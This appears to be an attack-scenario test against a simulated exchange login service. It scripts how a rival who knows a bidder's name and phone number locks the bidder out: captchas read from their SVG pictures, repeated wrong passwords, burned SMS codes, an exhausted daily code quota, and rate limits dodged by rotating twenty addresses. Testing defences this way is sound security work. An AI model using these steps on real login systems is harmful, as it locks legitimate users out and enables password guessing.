import { deed } from './ground.mjs'

export const title = 'A rival who knows the name and the phone keeps a bidder out'

const name = 'person'
const phone = '13900000004'
const minuteMs = 60_000
/** Addresses of the attacker; the victim is at the usual one. */
const sources = Array.from({ length: 20 }, (_, place) => `127.0.0.${place + 2}`)
/** Wrong passwords for one name on one day that an exchange may let happen. */
const guessesAllowed = 100

export async function attack({ call, look, control, tryPassword, accounts, world }) {
  const { password } = accounts.find(({ loginName }) => loginName === name)
  const found = []
  const report = (what, succeeded, seen) => found.push(deed(what, succeeded, seen))
  const wait = (ms) => control('clock', { jumpMs: ms })

  // The victim has signed in from this device before; its cookie goes along wherever it is.
  let cookie = `mock-world=${world}`
  const remember = ({ headers }) => {
    for (const given of headers['set-cookie'] ?? []) cookie = `mock-world=${world}; ${given.split(';')[0]}`
  }
  const victim = () => ({ headers: { cookie } })
  const arrives = async () => {
    const answer = await tryPassword(name, password, victim())
    remember(answer)
    return answer.json
  }
  const { data: session } = await arrives()

  const captchaFor = async (options) => (await call('/api/blade-auth/oauth/captcha', options)).json.data
  /** A wrong password; true if the exchange compared it. */
  const guess = async (source, username = name) => {
    const { uuid } = await captchaFor({ source })
    const { text } = await look(`captcha?uuid=${uuid}`)
    const query = {
      client_id: 'c',
      client_secret: 's',
      grant_type: 'password',
      username,
      password: 'guess',
      uuid,
      captcha: text,
    }
    await call('/api/oauth/token', { query, body: {}, source })
    return (await look(`captcha?uuid=${uuid}`)).text === null
  }
  const requestCode = async (options) => {
    const { uuid } = await captchaFor(options)
    const { text: captcha } = await look(`captcha?uuid=${uuid}`)
    return (
      await call('/api/dscq-user/sms/code', { body: { telPhone: phone, code: '1008', uuid, captcha }, ...options })
    ).json
  }
  const newestCode = async () => /验证码 (\d{6})/.exec((await look('inbox.json'))[0]?.text ?? '')?.[1]
  const bySms = (code, options) => {
    const query = { client_id: 'c', client_secret: 's', grant_type: 'verify_code', telPhone: phone, code }
    return call('/api/oauth/token', { query, body: {}, ...options })
  }

  const { image, uuid } = await captchaFor({ source: sources[0] })
  const { text } = await look(`captcha?uuid=${uuid}`)
  const picture = Buffer.from(image.split(',')[1], 'base64').toString('latin1')
  const written = [...picture.matchAll(/<text[^>]*>([^<])</g)].map(([, letter]) => letter).join('')
  report('read the letters of a captcha in its picture', written === text, image.slice(0, 30))

  for (let turn = 0; turn < 5; turn += 1) await guess(sources[turn])
  const locked = await arrives()
  report('lock the password with five wrong ones', locked.code !== 200, `${locked.code} ${locked.msg}`)

  await wait(16 * minuteMs)
  for (let turn = 0; turn < 5; turn += 1) await guess(sources[turn], phone)
  await guess(sources[5])
  const again = await tryPassword(phone, password, victim())
  report(
    'lock it again after a quarter of an hour, by the phone number',
    again.json.code !== 200,
    `${again.json.code} ${again.json.msg}`,
  )

  await wait(16 * minuteMs)
  await requestCode({ source: sources[0] })
  const hurried = await requestCode(victim())
  report(
    'hold back the code of the victim with a code of the own',
    hurried.code !== 200,
    `${hurried.code} ${hurried.msg}`,
  )

  await wait(2 * minuteMs)
  await requestCode(victim())
  const code = await newestCode()
  for (let turn = 0; turn < 6; turn += 1)
    await bySms(code === '000000' ? '000001' : '000000', { source: sources[turn] })
  const burnt = (await bySms(code, victim())).json
  report('invalidate the code of the victim by typing wrong ones', burnt.code !== 200, `${burnt.code} ${burnt.msg}`)

  for (let turn = 0; turn < 8; turn += 1) {
    await wait(minuteMs + 1000)
    await requestCode({ source: sources[turn] })
  }
  const spent = await requestCode(victim())
  report('use up the codes of the day', spent.code !== 200, `${spent.code} ${spent.msg}`)

  const own = await captchaFor(victim())
  const solved = { uuid: own.uuid, captcha: (await look(`captcha?uuid=${own.uuid}`)).text }
  const step = (await call('/api/dscq-user/sms/own-code', { body: solved, token: session.access_token, ...victim() }))
    .json
  report('keep a signed-in victim from confirming by phone', step.code !== 200, `${step.code} ${step.msg}`)

  let compared = 0
  for (let quarter = 0; quarter < 30; quarter += 1) {
    for (let turn = 0; turn < 5; turn += 1) compared += (await guess(sources[(quarter * 5 + turn) % 20])) ? 1 : 0
    await wait(15 * minuteMs + 1000)
  }
  report(
    'guess more often than the budget of a day from 20 addresses',
    compared > guessesAllowed,
    `${compared} in 7.5 hours`,
  )
  for (let turn = 0; turn < 5; turn += 1) await guess(sources[turn])
  const after = await arrives()
  report('keep the victim out after all that', after.code !== 200, `${after.code} ${after.msg}`)
  return found
}
